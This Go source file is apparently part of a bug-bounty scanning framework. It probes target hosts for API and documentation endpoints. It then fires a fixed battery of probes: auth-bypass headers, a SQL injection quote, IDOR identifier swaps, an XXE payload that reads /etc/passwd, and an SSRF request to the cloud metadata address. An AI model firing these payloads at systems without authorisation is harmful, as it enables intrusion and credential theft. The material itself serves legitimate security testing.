package scanners

import (
	"context"
	"fmt"
	"net/http"
	"regexp"
	"strings"

	"github.com/ethicalPap/bug-bounty-frameworkv2-sub000/internal/models"
)

// apiPathCatalog is the fixed probe list, grouped by API style
var apiPathCatalog = []struct {
	Style string
	Paths []string
}{
	{"rest", []string{"/api", "/api/v1", "/api/v2", "/api/v3", "/rest", "/api/users", "/api/status", "/api/health"}},
	{"graphql", []string{"/graphql", "/api/graphql", "/v1/graphql", "/graphiql"}},
	{"soap", []string{"/soap", "/ws", "/services", "/axis2"}},
	{"admin", []string{"/api/admin", "/admin/api", "/api/internal", "/api/management"}},
	{"mobile", []string{"/mobile/api", "/api/mobile", "/app/api", "/api/app/v1"}},
}

// apiDocsPaths locate documentation endpoints
var apiDocsPaths = []string{
	"/swagger.json", "/swagger/v1/swagger.json", "/openapi.json",
	"/api-docs", "/api/swagger.json", "/v2/api-docs", "/docs", "/redoc",
}

// bypassHeaders are tried against endpoints that answered 401/403
var bypassHeaders = []map[string]string{
	{"X-Forwarded-For": "127.0.0.1"},
	{"X-Original-URL": "/api/admin"},
	{"X-Custom-IP-Authorization": "127.0.0.1"},
	{"X-Rewrite-URL": "/api/admin"},
}

// fuzzParameters is the fixed wordlist appended as query parameters
var fuzzParameters = []string{"id", "user", "admin", "debug", "test", "page", "file", "path", "url", "redirect"}

var (
	sqlErrorPattern = regexp.MustCompile(`(?i)(sql syntax|mysql_fetch|ORA-\d{5}|postgresql error|sqlite3?\.|syntax error at or near|unclosed quotation mark)`)
	xxeMarker       = "uid=0(root)"
	ssrfMarkers     = []string{"ami-id", "instance-id", "iam/security-credentials", "metadata.google.internal"}
	sensitiveInfoPattern = regexp.MustCompile(`(?i)(stack trace|traceback|debug mode|internal server error.*at\s+\w+\.|database connection|config\.[a-z]+\s*=)`)
)

const xxeProbeBody = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`

// APIDiscoveryScanner probes a fixed catalog of API paths per live host,
// classifies responders, checks authentication and runs a fixed battery of
// vulnerability probes against discovered endpoints.
type APIDiscoveryScanner struct{}

func NewAPIDiscoveryScanner() *APIDiscoveryScanner {
	return &APIDiscoveryScanner{}
}

func (s *APIDiscoveryScanner) Type() models.JobType {
	return models.JobTypeAPIDiscovery
}

func (s *APIDiscoveryScanner) Run(ctx context.Context, scan *ScanContext) (models.JSON, error) {
	hosts := s.candidateHosts(scan)
	scan.ReportProgress(5)

	var apis []models.JSON
	var docs []models.JSON
	var vulnerabilities []models.JSON

	for hostIdx, host := range hosts {
		if ctx.Err() != nil {
			break
		}
		base := "https://" + host

		for _, group := range apiPathCatalog {
			for _, path := range group.Paths {
				endpoint := s.probeEndpoint(ctx, scan, base, path, group.Style)
				if endpoint == nil {
					continue
				}
				apis = append(apis, endpoint)

				requiresAuth, _ := endpoint["requires_auth"].(bool)
				if requiresAuth {
					if bypass := s.probeAuthBypass(ctx, scan, base+path); bypass != nil {
						vulnerabilities = append(vulnerabilities, bypass)
					}
				}
				vulnerabilities = append(vulnerabilities, s.probeVulnerabilities(ctx, scan, base+path)...)
			}
		}

		for _, path := range apiDocsPaths {
			_, status, err := fetchBody(ctx, scan.Client, base+path, 128*1024)
			if err == nil && status == 200 {
				docs = append(docs, models.JSON{"host": host, "path": path})
			}
		}

		scan.ReportProgress(5 + ((hostIdx + 1) * 90 / len(hosts)))
	}

	return models.JSON{
		"apis":              apis,
		"documentation":     docs,
		"vulnerabilities":   vulnerabilities,
		"total_endpoints":   len(apis),
		"hosts_probed":      len(hosts),
		"api_vulnerability_count": len(vulnerabilities),
	}, nil
}

// candidateHosts prefers known live subdomains, falling back to the root domain
func (s *APIDiscoveryScanner) candidateHosts(scan *ScanContext) []string {
	subdomains, err := scan.Stores.Subdomains.FindByTarget(scan.Target.ID)
	if err != nil || len(subdomains) == 0 {
		return []string{scan.Target.Domain}
	}

	var hosts []string
	for _, sub := range subdomains {
		if sub.Status == "live" {
			hosts = append(hosts, sub.Subdomain)
		}
	}
	if len(hosts) == 0 {
		hosts = []string{scan.Target.Domain}
	}
	return hosts
}

// probeEndpoint classifies one path by its response content signature
func (s *APIDiscoveryScanner) probeEndpoint(ctx context.Context, scan *ScanContext, base, path, style string) models.JSON {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, base+path, nil)
	if err != nil {
		return nil
	}
	req.Header.Set("User-Agent", probeUserAgent)
	req.Header.Set("Accept", "application/json")

	resp, err := scan.Client.Do(req)
	if err != nil {
		return nil
	}
	defer resp.Body.Close()

	if resp.StatusCode == http.StatusNotFound {
		return nil
	}

	contentType := resp.Header.Get("Content-Type")
	signature := "unknown"
	switch {
	case strings.Contains(contentType, "application/json"):
		signature = "json"
	case strings.Contains(contentType, "xml"):
		signature = "xml"
	case strings.Contains(contentType, "text/html"):
		signature = "html"
	}

	return models.JSON{
		"url":           base + path,
		"path":          path,
		"style":         style,
		"status_code":   resp.StatusCode,
		"signature":     signature,
		"requires_auth": resp.StatusCode == http.StatusUnauthorized || resp.StatusCode == http.StatusForbidden,
	}
}

// probeAuthBypass retries a protected endpoint with common bypass headers
func (s *APIDiscoveryScanner) probeAuthBypass(ctx context.Context, scan *ScanContext, endpoint string) models.JSON {
	for _, headers := range bypassHeaders {
		req, err := http.NewRequestWithContext(ctx, http.MethodGet, endpoint, nil)
		if err != nil {
			continue
		}
		req.Header.Set("User-Agent", probeUserAgent)
		var headerName string
		for name, value := range headers {
			req.Header.Set(name, value)
			headerName = name
		}

		resp, err := scan.Client.Do(req)
		if err != nil {
			continue
		}
		resp.Body.Close()

		if resp.StatusCode == http.StatusOK {
			return models.JSON{
				"type":     "auth_bypass",
				"severity": "critical",
				"url":      endpoint,
				"evidence": fmt.Sprintf("401/403 endpoint returned 200 with %s header", headerName),
			}
		}
	}
	return nil
}

// probeVulnerabilities runs the fixed battery against one responding endpoint
func (s *APIDiscoveryScanner) probeVulnerabilities(ctx context.Context, scan *ScanContext, endpoint string) []models.JSON {
	var findings []models.JSON

	// SQL injection: error-pattern match on a quote-broken parameter
	if body, _, err := fetchBody(ctx, scan.Client, endpoint+"?id=1'", 128*1024); err == nil {
		if match := sqlErrorPattern.FindString(body); match != "" {
			findings = append(findings, models.JSON{
				"type":     "sql_injection",
				"severity": "critical",
				"url":      endpoint,
				"evidence": match,
			})
		}
	}

	// IDOR: compare responses across substituted identifiers
	bodyOne, statusOne, errOne := fetchBody(ctx, scan.Client, endpoint+"?id=1", 128*1024)
	bodyTwo, statusTwo, errTwo := fetchBody(ctx, scan.Client, endpoint+"?id=2", 128*1024)
	if errOne == nil && errTwo == nil && statusOne == 200 && statusTwo == 200 &&
		bodyOne != bodyTwo && len(bodyOne) > 0 && len(bodyTwo) > 0 {
		findings = append(findings, models.JSON{
			"type":     "idor",
			"severity": "high",
			"url":      endpoint,
			"evidence": "distinct 200 responses for substituted object identifiers",
		})
	}

	// XXE: entity-expansion payload with a file marker
	if body := s.postProbe(ctx, scan, endpoint, "application/xml", xxeProbeBody); strings.Contains(body, xxeMarker) {
		findings = append(findings, models.JSON{
			"type":     "xxe",
			"severity": "critical",
			"url":      endpoint,
			"evidence": "external entity expansion reflected file contents",
		})
	}

	// SSRF: cloud metadata markers in the response to a url parameter
	if body, _, err := fetchBody(ctx, scan.Client, endpoint+"?url=http://169.254.169.254/latest/meta-data/", 128*1024); err == nil {
		for _, marker := range ssrfMarkers {
			if strings.Contains(body, marker) {
				findings = append(findings, models.JSON{
					"type":     "ssrf",
					"severity": "critical",
					"url":      endpoint,
					"evidence": "cloud metadata marker in response: " + marker,
				})
				break
			}
		}
	}

	// Information disclosure in plain responses
	if body, _, err := fetchBody(ctx, scan.Client, endpoint, 128*1024); err == nil {
		if match := sensitiveInfoPattern.FindString(body); match != "" {
			findings = append(findings, models.JSON{
				"type":     "information_disclosure",
				"severity": "medium",
				"url":      endpoint,
				"evidence": match,
			})
		}
	}

	// Optional parameter fuzzing pass
	if scan.BoolOption("parameter_fuzzing", scan.Settings.ParameterFuzzing) {
		findings = append(findings, s.fuzzParameters(ctx, scan, endpoint)...)
	}

	return findings
}

func (s *APIDiscoveryScanner) fuzzParameters(ctx context.Context, scan *ScanContext, endpoint string) []models.JSON {
	baseline, baseStatus, err := fetchBody(ctx, scan.Client, endpoint, 64*1024)
	if err != nil {
		return nil
	}

	var findings []models.JSON
	for _, param := range fuzzParameters {
		body, status, err := fetchBody(ctx, scan.Client, endpoint+"?"+param+"=1", 64*1024)
		if err != nil {
			continue
		}
		if status != baseStatus || (len(body) != len(baseline) && status == 200) {
			findings = append(findings, models.JSON{
				"type":     "reactive_parameter",
				"severity": "low",
				"url":      endpoint,
				"evidence": "parameter '" + param + "' changes the response",
			})
		}
	}
	return findings
}

func (s *APIDiscoveryScanner) postProbe(ctx context.Context, scan *ScanContext, endpoint, contentType, payload string) string {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, endpoint, strings.NewReader(payload))
	if err != nil {
		return ""
	}
	req.Header.Set("User-Agent", probeUserAgent)
	req.Header.Set("Content-Type", contentType)

	resp, err := scan.Client.Do(req)
	if err != nil {
		return ""
	}
	defer resp.Body.Close()

	body := make([]byte, 0, 4096)
	buf := make([]byte, 4096)
	for len(body) < 128*1024 {
		n, readErr := resp.Body.Read(buf)
		body = append(body, buf[:n]...)
		if readErr != nil {
			break
		}
	}
	return string(body)
}
